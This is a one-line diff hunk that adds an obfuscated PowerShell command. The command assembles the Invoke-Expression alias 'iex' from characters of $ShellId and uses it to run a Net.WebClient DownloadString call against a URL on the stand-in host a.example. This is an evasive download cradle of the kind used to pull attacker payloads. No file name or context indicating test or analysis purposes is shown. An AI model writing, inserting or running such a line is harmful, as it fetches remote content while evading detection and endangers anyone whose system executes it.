@@ -1,0 +1,1 @@
+&($ShellId[1]+$ShellId[13]+'x') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
